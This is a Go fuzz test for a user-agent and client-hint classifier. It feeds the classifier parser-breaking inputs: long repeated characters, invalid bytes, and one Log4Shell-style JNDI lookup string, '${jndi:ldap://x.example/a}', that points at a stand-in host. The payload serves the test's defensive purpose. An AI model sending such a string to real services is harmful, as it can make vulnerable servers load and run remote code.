package classify

import (
	"net/http"
	"strings"
	"testing"
	"unicode/utf8"
)

func FuzzClassify(f *testing.F) {
	for _, a := range agents(f) {
		f.Add(a.ua, "en", "", "", "", "", "", "", "")
	}
	f.Add(windowsChrome, "", "1", "prefetch;prerender", `"Brave";v="141"`, "?1", `"Windows"`, `"15.0.0"`, `"SM-X900 Tab"`)
	for _, s := range hostile() {
		f.Add(s, s, s, s, s, s, s, s, s)
	}
	classes, reasons, devices := classes(), reasonClasses(), map[string]bool{"": true}
	reasons[""] = ""
	for _, d := range []string{DeviceDesktop, DeviceMobile, DeviceTablet, DeviceTV, DeviceConsole, DeviceEReader, DeviceCar, DeviceBot} {
		devices[d] = true
	}
	f.Fuzz(func(t *testing.T, ua, language, synthetic, purpose, brands, mobile, platform, release, model string) {
		h := http.Header{}
		for name, value := range map[string]string{
			"Accept-Language": language, "X-Pixelctl-Synthetic": synthetic, "Sec-Purpose": purpose, "X-Moz": purpose, "Sec-Ch-Ua": brands,
			"Sec-Ch-Ua-Mobile": mobile, "Sec-Ch-Ua-Platform": platform, "Sec-Ch-Ua-Platform-Version": release, "Sec-Ch-Ua-Model": model,
		} {
			h.Set(name, value)
		}
		for _, c := range []Client{Classify(ua, nil), Classify(ua, h)} {
			class, ok := reasons[c.Reason]
			if !classes[c.Class] || !ok || class != "" && class != c.Class || !devices[c.Device] {
				t.Errorf("class %q, reason %q, device %q", c.Class, c.Reason, c.Device)
			}
			for _, s := range []string{c.Browser, c.BrowserVersion, c.OS, c.OSVersion} {
				if len(s) > agentLimit || utf8.ValidString(ua) && !utf8.ValidString(s) {
					t.Errorf("%q of %q", s, ua)
				}
			}
		}
		if got := Classify(ua, h); got != Classify(ua, h) {
			t.Errorf("two answers, one of them %+v", got)
		}
	})
}

// hostile are strings made to be slow or to break a parser.
func hostile() []string {
	var all []string
	for _, s := range []string{"(", ")", "[", ";", ":", "/", " ", "a/", "(a;", "Android ", "Android;", "http://", "https://;", "Mozilla/5.0 (", "bot ", "\x00", "\xff", "İ", "ß", "K"} {
		all = append(all, strings.Repeat(s, 4096/len(s)))
	}
	return append(all, "Android", "Android 1", "Linux; Android", "Mozilla/5.0 (Linux; Android", "iPhone OS", "Windows Phone", "cros ", "CrOS", "trident/", "windows ", "/", "@", "a@b.", "a@b.c", "like ", "${jndi:ldap://x.example/a}")
}
